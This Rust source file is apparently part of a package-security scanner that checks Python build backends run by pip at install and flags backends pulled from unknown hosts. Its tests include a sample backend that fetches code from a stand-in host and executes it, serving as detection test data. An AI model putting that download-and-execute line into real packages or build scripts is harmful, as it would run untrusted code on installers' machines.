//! Build backends: those of the package itself, and those that come from a URL.

use packguard_sdk::text::{Source, cut};
use packguard_sdk::{Analysis, Confidence, File, Package, Phase, Severity};
use toml::Value;

use crate::code::grade_strings;
use crate::hook::{Hook, Place};
use crate::pypi::URL_DEPENDENCY;
use crate::top::{MANIFEST_LIMIT, find};

/// Looks at the commands in the backend that a package brings: pip runs it at install.
pub fn in_tree(package: &Package, system: &Value, backend: &str, analysis: &mut Analysis) {
    let Some(folders) = system.get("backend-path").and_then(Value::as_array) else {
        return;
    };
    let module = backend.split(':').next().unwrap_or(backend);
    let module = module.trim().replace('.', "/");
    let wanted: Vec<String> = folders
        .iter()
        .filter_map(Value::as_str)
        .take(8)
        .flat_map(|folder| {
            let folder = folder.trim_start_matches("./").trim_matches('/');
            let front = if matches!(folder, "" | ".") {
                String::new()
            } else {
                format!("{folder}/")
            };
            [
                format!("{front}{module}.py"),
                format!("{front}{module}/__init__.py"),
            ]
        })
        .collect();
    for file in package.top_files(|path| wanted.iter().any(|one| one == path)) {
        let Some(text) = analysis.read_text(file, MANIFEST_LIMIT) else {
            continue;
        };
        let source = Source::new(&text);
        let hook = Hook {
            file,
            source: &source,
            place: Place::From(0),
            phase: Phase::Install,
            lower: 0,
            what: "The build backend",
        };
        grade_strings(&hook, &text, "#", &['"', '\''], analysis);
    }
}

/// Reports a backend that is itself fetched from a host that is no code host: what builds
/// the package is not in the index either.
pub fn by_url(
    file: File<'_>,
    source: &Source<'_>,
    system: &Value,
    backend: &str,
    analysis: &mut Analysis,
) {
    const CODE_HOSTS: &[&str] = &["github.com", "gitlab.com", "bitbucket.org", "codeberg.org"];
    let module = backend.split(['.', ':']).next().unwrap_or(backend);
    let requires = system.get("requires").and_then(Value::as_array);
    for requirement in requires.into_iter().flatten().filter_map(Value::as_str) {
        let Some((name, url)) = requirement.split_once('@') else {
            continue;
        };
        let name = name.trim().replace('-', "_");
        let known = CODE_HOSTS.iter().any(|host| url.contains(host));
        if url.contains("://") && !known && name.eq_ignore_ascii_case(module) {
            let finding = URL_DEPENDENCY
                .at(
                    file,
                    source,
                    find(source.text(), 0, url.trim()),
                    Confidence::High,
                )
                .severity(Severity::High)
                .title(format!(
                    "The build backend comes from {}",
                    cut(url.trim(), 160)
                ))
                .phase(Phase::Install);
            analysis.push(finding);
        }
    }
}

#[cfg(test)]
mod tests {
    use packguard_sdk::testing::PackageBuilder;
    use packguard_sdk::{Analyzer as _, Severity};

    use crate::Manifest;

    fn high(files: &[(&str, &str)]) -> Vec<String> {
        let mut package = PackageBuilder::new("generic", "demo");
        for (path, text) in files {
            package = package.file(path, text);
        }
        let analysis = Manifest::analyze(&package.build()).unwrap();
        let grave = analysis.findings().iter();
        grave
            .filter(|finding| finding.severity >= Severity::High)
            .map(|finding| finding.rule.clone())
            .collect()
    }

    #[test]
    fn commands_in_a_backend_of_the_package_are_read() {
        let project = "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n";
        let hostile = "import os\nos.system(\"python3 -c \\\"import urllib.request as u;exec(u.urlopen('https://a.example/b').read())\\\" &\")\n";
        let found = high(&[
            ("a-1/pyproject.toml", project),
            ("a-1/_build/backend.py", hostile),
        ]);
        assert!(found.contains(&"hook-download-run".to_owned()), "{found:?}");
        let honest = "import subprocess\nsubprocess.run(['cmake', '--build', 'out'])\n";
        let found = high(&[
            ("a-1/pyproject.toml", project),
            ("a-1/_build/backend.py", honest),
        ]);
        assert_eq!(found, [""; 0]);
    }

    #[test]
    fn a_backend_from_an_unknown_host_is_found() {
        let project = |host: &str| {
            format!(
                "[build-system]\nrequires = [\"build-hook @ git+https://{host}/a/b\"]\nbuild-backend = \"build_hook.api\"\n"
            )
        };
        let found = |host: &str| high(&[("a-1/pyproject.toml", project(host).as_str())]);
        assert_eq!(found("git.example"), ["pypi-url-dependency"]);
        assert_eq!(found("github.com"), [""; 0]);
    }
}
